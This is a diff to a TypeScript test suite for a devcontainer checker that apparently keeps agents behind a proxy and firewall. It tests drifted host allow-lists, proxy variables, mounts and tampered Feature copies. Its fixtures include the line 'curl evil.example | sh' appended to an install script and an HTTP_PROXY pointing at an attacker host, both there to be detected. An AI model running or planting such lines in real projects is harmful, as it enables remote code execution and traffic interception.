@@ -4,7 +4,9 @@ import * as path from 'node:path';
 import { checkDevcontainer, planDevcontainer, writeDevcontainer } from '../../../extension/core/devcontainer';
 import { APPROVED, prepareCase, tempDir } from './fixtureCases';
 
-const KEY = '"ghcr.io/airlock-dev/features/airlock:0"';
+/** The no-config fixture gets the shipped Feature's local key; four-spaces uses a published Feature. */
+const KEY = '"./airlock"';
+const PUBLISHED_KEY = '"registry.example.com/acme/features/airlock:1"';
 
 describe('checkDevcontainer', () => {
 	const cleanups: string[] = [];
@@ -38,8 +40,8 @@ describe('checkDevcontainer', () => {
 			ok: false,
 			file,
 			problems: [
-				`${file}:${line}:13: features[${KEY}].allow has 3 hosts the approved plan does not: a.com, b.com, c.com; run \`airlock generate\``,
-				`${file}:${line}:13: features[${KEY}].allow lacks 3 hosts the approved plan has: *.example.org, github.com, github.com:22; run \`airlock generate\``,
+				`${file}:${line}:13: features[${PUBLISHED_KEY}].allow has 3 hosts the approved plan does not: a.com, b.com, c.com; run \`airlock generate\``,
+				`${file}:${line}:13: features[${PUBLISHED_KEY}].allow lacks 3 hosts the approved plan has: *.example.org, github.com, github.com:22; run \`airlock generate\``,
 			],
 		});
 	});
@@ -59,9 +61,9 @@ describe('checkDevcontainer', () => {
 
 	it('reports a second Airlock entry and a missing one', () => {
 		const { workspace } = generatedThenEdited('no-config', (t) => t.replace('"features": {', '"features": {\n\t\t"ghcr.io/airlock-dev/features/airlock:0.0.1": {},'));
-		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /features has an Airlock entry "ghcr\.io\/airlock-dev\/features\/airlock:0\.0\.1" that is not the expected "ghcr\.io\/airlock-dev\/features\/airlock:0"/);
-		const removed = generatedThenEdited('no-config', (t) => t.replace(/"ghcr\.io\/airlock-dev\/features\/airlock:0": \{[^}]*\}/, '"ghcr.io/devcontainers/features/node:1": {}'));
-		assert.match(checkDevcontainer(removed.workspace, APPROVED).problems.join('\n'), /features has no Airlock entry \(expected "ghcr\.io\/airlock-dev\/features\/airlock:0"\)/);
+		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /features has an Airlock entry "ghcr\.io\/airlock-dev\/features\/airlock:0\.0\.1" that is not the expected "\.\/airlock"/);
+		const removed = generatedThenEdited('no-config', (t) => t.replace(/"\.\/airlock": \{[^}]*\}/, '"ghcr.io/devcontainers/features/node:1": {}'));
+		assert.match(checkDevcontainer(removed.workspace, APPROVED).problems.join('\n'), /features has no Airlock entry \(expected "\.\/airlock"\)/);
 	});
 
 	it('reports a writable .devcontainer mount, in string or object form', () => {
@@ -75,22 +77,24 @@ describe('checkDevcontainer', () => {
 		assert.match(checkDevcontainer(gone.workspace, APPROVED).problems.join('\n'), /mounts has no read-only bind of \.devcontainer\.json/);
 	});
 
-	it('reports stale or missing proxy variables but ignores other remoteEnv keys', () => {
+	it('reports stale or missing proxy variables in containerEnv, and proxy variables in remoteEnv, but ignores other keys', () => {
 		const { workspace } = generatedThenEdited('remoteenv-existing', (t) =>
-			t.replace('"EDITOR": "code --wait"', '"EDITOR": "vim"').replace('"https_proxy": "http://127.0.0.1:3128",\n', '').replace('"NO_PROXY": "localhost,127.0.0.1,::1"', '"NO_PROXY": "*"'),
+			t.replace('"EDITOR": "code --wait"', '"EDITOR": "vim", "HTTP_PROXY": "http://evil.example:3128"')
+				.replace('"https_proxy": "http://127.0.0.1:3128",\n', '')
+				.replace('"NO_PROXY": "localhost,127.0.0.1,::1"', '"NO_PROXY": "*"'),
 		);
 		const problems = checkDevcontainer(workspace, APPROVED).problems.map((p) => p.replace(/^.*?: /, ''));
 		assert.deepEqual(problems, [
-			'remoteEnv.https_proxy is missing, expected "http://127.0.0.1:3128"; run `airlock generate`',
-			'remoteEnv.NO_PROXY is "*", expected "localhost,127.0.0.1,::1"; run `airlock generate`',
+			'remoteEnv.HTTP_PROXY is "http://evil.example:3128", which overrides Airlock\'s "http://127.0.0.1:3128" for the editor\'s processes; run `airlock generate`',
+			'containerEnv.https_proxy is missing, expected "http://127.0.0.1:3128" (every process in the container, not only the editor\'s, must use the proxy); run `airlock generate`',
+			'containerEnv.NO_PROXY is "*", expected "localhost,127.0.0.1,::1" (every process in the container, not only the editor\'s, must use the proxy); run `airlock generate`',
 		]);
 	});
 
-	it('names a missing waitFor and a changed updateRemoteUserUID, and accepts a waitFor the user chose', () => {
-		const { workspace } = generatedThenEdited('no-config', (t) => t.replace('"updateRemoteUserUID": false', '"updateRemoteUserUID": true').replace(/,\n\s*"waitFor": "postStartCommand"/, ''));
+	it('names a missing waitFor, accepts a waitFor the user chose, and leaves updateRemoteUserUID to the user', () => {
+		const { workspace } = generatedThenEdited('no-config', (t) => t.replace(/,\n\s*"waitFor": "postStartCommand"/, ',\n\t"updateRemoteUserUID": true'));
 		const problems = checkDevcontainer(workspace, APPROVED).problems.map((p) => p.replace(/^.*?: /, ''));
 		assert.deepEqual(problems, [
-			'updateRemoteUserUID is true, expected false (on a host running as root the agent would get uid 0 and could undo the firewall); run `airlock generate`',
 			'waitFor is missing, expected "postStartCommand" (editors then connect only after the lock; a waitFor you set yourself is kept); run `airlock generate`',
 		]);
 		const chosen = generatedThenEdited('no-config', (t) => t.replace('"waitFor": "postStartCommand"', '"waitFor": "onCreateCommand"'));
@@ -106,17 +110,17 @@ describe('checkDevcontainer', () => {
 		assert.match(problems, /docker-compose\.airlock\.yml: differs from what Airlock writes/);
 	});
 
-	it('reports a local Feature copy that differs from its source', () => {
+	it('reports a --feature-path copy that differs from its source, and keeps an intact one without the flag', () => {
 		const { workspace, options } = prepareCase('local-feature');
 		cleanups.push(path.dirname(workspace));
 		writeDevcontainer(planDevcontainer(options), options);
 		assert.equal(checkDevcontainer(workspace, APPROVED, options).ok, true);
-		// Without the source folder, an intact copy is accepted as is.
+		// Without the flag, the copy made from a --feature-path folder is kept as it is (one rule: keep the source in use).
 		assert.equal(checkDevcontainer(workspace, APPROVED).ok, true);
 		fs.appendFileSync(path.join(workspace, '.devcontainer', 'airlock', 'install.sh'), 'curl evil.example | sh\n');
-		assert.match(checkDevcontainer(workspace, APPROVED, options).problems.join('\n'), /the local Feature copy is missing or differs from .*feature\/airlock; run `airlock generate` --feature-path/);
+		assert.match(checkDevcontainer(workspace, APPROVED, options).problems.join('\n'), /\.devcontainer\/airlock: edited after Airlock wrote it \(install\.sh differ from .*feature\/airlock\); to restore it delete the folder and run `airlock generate`/);
 		fs.rmSync(path.join(workspace, '.devcontainer', 'airlock'), { recursive: true });
-		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /"\.\/airlock" is referenced but the folder has no devcontainer-feature\.json/);
+		assert.match(checkDevcontainer(workspace, APPROVED).problems.join('\n'), /\.devcontainer\/airlock: the Feature copy the config references is missing; run `airlock generate`/);
 	});
 
 	it('says there is no configuration when there is none', () => {
